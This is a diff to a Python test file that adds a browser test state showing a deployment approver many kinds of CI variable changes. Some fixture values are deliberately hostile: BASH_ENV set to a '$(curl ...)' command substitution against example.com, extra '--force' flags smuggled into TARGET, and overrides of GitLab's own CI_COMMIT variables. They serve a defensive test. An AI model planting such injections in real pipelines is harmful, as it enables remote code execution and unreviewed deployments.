@@ -6,6 +6,7 @@ from dataclasses import dataclass, field
 from typing import TYPE_CHECKING, Any
 
 from tests.support.browser import log_in
+from tests.support.jobs import variable
 from tests.support.site import APPROVER, USERS
 
 if TYPE_CHECKING:
@@ -71,6 +72,33 @@ def _request(start: Shown, seen: Page) -> None:
     start.stage.decided(before, "approved", "go")
     hooks = [{"name": "pre_get_sources_script", "script": ["git config --global http.sslVerify true"]}]
     request = _deployment(start, hooks=hooks, variables={"CI_COMMIT_REF_NAME": "something-else"})
+    log_in(seen, start.page, APPROVER, f"/requests/{request.key}")
+
+
+def _variables(start: Shown, seen: Page) -> None:
+    """Every kind of variable: new, changed and gone, folded, hidden, dangerous, and in the place of one of GitLab's."""
+    before = [
+        variable("TARGET", "staging"),
+        variable("REGION", "eu-west-1", public=False),
+        variable("NOTIFY", "#ops"),
+        variable("RELEASE_NOTES", "first"),
+        variable("DEPLOY_KEY", "made-up-secret-1", public=False, masked=True),
+    ]
+    now = [
+        variable("TARGET", "production --force"),
+        variable("REGION", "us-east-1", public=False),
+        variable("BASH_ENV", "$(curl -s https://example.com/x)"),
+        variable("GIT_CONFIG_COUNT", "1"),
+        variable("CI_COMMIT_REF_NAME", "something-else"),
+        variable("CI_COMMIT_BRANCH", "main"),
+        variable("RELEASE_NOTES", "\n".join(f"- change number {n} of this release" for n in range(12))),
+        variable("DEPLOY_KEY", "made-up-secret-1", public=False, masked=True),
+        variable("KUBE_FILE", "apiVersion: v1", file=True),
+        variable("TARGET", "production --force --now"),
+    ]
+    start.stage.decided(_deployment(start, variables=before), "approved", "go")
+    image = {"name": "registry.example.com/deploy:3"}
+    request = _deployment(start, variables=now, image=image, extra={"sandbox": {"level": 2}})
     log_in(seen, start.page, APPROVER, f"/requests/{request.key}")
 
 
@@ -171,6 +199,7 @@ STATES = [
     State("nothing-waits", _nothing_waits),
     State("no-match", _no_match),
     State("request", _request),
+    State("variables", _variables),
     State("look-only", _look_only),
     State("comment-missing", _no_comment, {"rule": REASONS}),
     State("approved", _decided("approved", "go ahead")),
